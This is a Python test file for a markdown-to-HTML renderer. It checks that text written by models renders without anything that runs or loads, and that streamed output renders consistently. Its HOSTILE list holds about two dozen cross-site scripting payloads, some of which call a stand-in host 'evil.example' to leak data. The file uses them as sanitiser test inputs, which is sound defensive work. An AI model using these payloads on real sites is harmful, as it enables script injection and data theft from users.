"""What models write, as HTML: nothing in it runs, nothing in it loads, and what is whole of it is rendered once."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lastresort.adapters.pages.markdown import Growing, rendered

HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/?leak)", "![x](x \"onerror=alert(1)\")", "[x]: javascript:alert(1)\n\n[x]",
    "<a href='javascript:alert(1)'>x</a>", "<javascript:alert(1)>", "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```", "<details open ontoggle=alert(1)>", "<math><mtext></table><img src=x>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><button>x", "<!--><img src=x>-->",
    "[x](vbscript:x)", "[x](\x01javascript:alert(1))", "<b onmouseover=alert(1)>x</b>", "# <u onclick=alert(1)>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<base href=//evil.example>",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_is_left(text: str) -> None:
    html = rendered(text).lower()
    for word in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<base", "<details", "<math", "<u ", "<b "):
        assert word not in html
    for word in ('href="javascript', 'href="data', 'href="vbscript', "href=' javascript", 'src="'):
        assert word not in html


def test_links_open_nothing_of_ours() -> None:
    assert rendered("[a](https://example.org)") == (
        '<p><a href="https://example.org" rel="noopener noreferrer nofollow">a</a></p>\n'
    )


def test_words_are_shown_in_the_order_in_which_they_were_written() -> None:
    """What has them read otherwise is a mark; a word that is written from the right needs none of it."""
    assert rendered("a\u202eb\u2067c \u05e9\u05dc\u05d5\u05dd") == "<p>a\ufffdb\ufffdc \u05e9\u05dc\u05d5\u05dd</p>\n"


def test_a_heading_is_below_that_of_its_answer() -> None:
    html = rendered("# a\n\n## b\n\n##### c")
    assert html == "<h3>a</h3>\n<h4>b</h4>\n<h6>c</h6>\n"


@settings(max_examples=25)
@given(
    st.lists(
        st.sampled_from(["# a\n", "\n", "text ", "* one\n", "```\n", "> q\n", "| a |\n| - |\n", "*b* "]), max_size=40
    )
)
def test_an_answer_that_grows_comes_to_the_same_words(pieces: list[str]) -> None:
    growing, whole = Growing(), ""
    last = ""
    for piece in pieces:
        growing.add(piece)
        closed, last = growing.take()
        whole += closed
    assert _words(whole + last) == _words(rendered("".join(pieces)))


def _words(html: str) -> list[str]:
    out, inside = [], False
    for character in html:
        inside = character == "<" or (inside and character != ">")
        if not inside and character.isalnum():
            out.append(character)
    return out


def test_what_is_whole_is_rendered_once() -> None:
    growing = Growing()
    growing.add("# Title\n\nfirst\n\nsecond")
    assert growing.take() == ("<h3>Title</h3>\n<p>first</p>\n", "<p>second</p>\n")
    growing.add(" goes on")
    assert growing.take() == ("", "<p>second goes on</p>\n")
